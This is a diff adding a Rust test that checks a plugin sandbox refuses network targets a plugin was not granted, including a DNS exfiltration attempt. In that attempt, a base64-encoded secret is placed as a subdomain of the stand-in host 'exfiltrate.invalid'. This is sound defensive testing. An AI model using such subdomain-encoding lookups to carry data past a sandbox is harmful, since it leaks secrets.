@@ -538,6 +538,24 @@ async fn granted_network_addresses_only() {
         .await;
     assert_eq!(text(&out[0]), "connected: hello");
 
+    // Only granted names are looked up: a plugin granted an address cannot make the resolver carry data to a
+    // domain of its choosing (`<secret>.attacker.example`), nor reach the granted address by another name.
+    let s = sandbox(&format!(
+        "[plugins.toolwright-test-probe]\nnetwork = [\"127.0.0.1:{port}\"]\n"
+    ));
+    let out = s
+        .run(&[
+            json!({"action": "connect", "target": format!("localhost:{port}")}),
+            json!({"action": "connect", "target": "c2VjcmV0.exfiltrate.invalid:53"}),
+        ])
+        .await;
+    for (out, name) in out.iter().zip(["localhost", "c2VjcmV0.exfiltrate.invalid"]) {
+        let text = text(out);
+        // Refused by the host before any query (a lookup would have found `localhost`, and failed otherwise for
+        // the other name).
+        assert_eq!(text, "PermissionDenied: Permission denied (os error 2)", "{name}");
+    }
+
     let s = sandbox(
         "[plugins.toolwright-test-probe]\nnetwork = [\"*:*\"]\ndeny = { network = [\"127.0.0.1:*\"] }\n",
     );
